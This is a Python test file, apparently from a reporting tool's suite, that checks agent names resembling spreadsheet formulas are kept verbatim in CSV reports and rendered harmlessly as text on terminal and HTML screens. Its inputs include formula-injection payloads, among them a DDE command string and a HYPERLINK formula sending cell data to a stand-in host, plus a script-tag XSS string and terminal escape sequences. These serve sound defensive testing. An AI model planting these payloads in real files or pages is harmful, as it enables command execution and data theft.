"""A name that spreadsheets take for a formula: as it is in the file, and text on our screens."""

import csv
import json
import xml.etree.ElementTree as ET

import pytest

from agent_classifier.report_line import report_line
from agent_events.agent_event import decode_agent_event
from aspect_wfm.report_files import ReportObject
from aspect_wfm.reports.page import page
from aspect_wfm.reports.periods import Period
from aspect_wfm.reports.report_lines import read_report
from aspect_wfm.reports.statistics import statistics
from aspect_wfm.reports.terminal import render
from tests.unit.events import event, snapshot
from tests.unit.reports.test_page import texts

FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(1)", "\t=1+1", "|calc", "%0A=1+1", "=cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://a.example/?"&A1,"see")', "=A1,B1", '"=1+1"'),
]


def line_of(name: str) -> bytes:
    """The report line of an agent whose username, status and group are `name`."""
    current = snapshot(name, name, "2026-03-02T09:00:00Z", name)
    data = json.dumps(event(CurrentAgentSnapshot=current)).encode()
    line = report_line(decode_agent_event(data), {}, False)
    assert line is not None
    return line


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_goes_into_the_report_as_the_contract_writes_any_name(name: str) -> None:
    written = '"' + name.replace('"', '""') + '"' if "," in name or '"' in name else name
    assert f"111122223333,{written},{written},null,".encode() in line_of(name)
    (columns,) = csv.reader([line_of(name).decode()])
    assert (columns[1], columns[2], columns[8]) == (name, name, name)


def test_a_carriage_return_before_a_formula_is_a_blank_as_any_line_break_is() -> None:
    assert b",\x20=1+1," in line_of("\r=1+1")


@pytest.mark.parametrize("name", [*FORMULAS, "<script>alert(1)</script>", "\x1b[2J\x1b]0;a\x07=1"])
def test_on_our_screens_a_formula_is_text(name: str) -> None:
    report = read_report([ReportObject("OUTPUT/one", line_of(name))])
    moment = report.lines[0].timestamp
    found = statistics(report.lines, Period(moment, moment))
    screen, shown = render(found, report), page(found, report)
    assert all(character.isprintable() for character in screen.replace("\n", ""))
    visible = "".join(each if each.isprintable() else "\ufffd" for each in name)
    assert visible in texts(shown, "th")
    assert not {"script", "a", "img"} & {each.tag for each in ET.fromstring(shown).iter()}  # noqa: S314
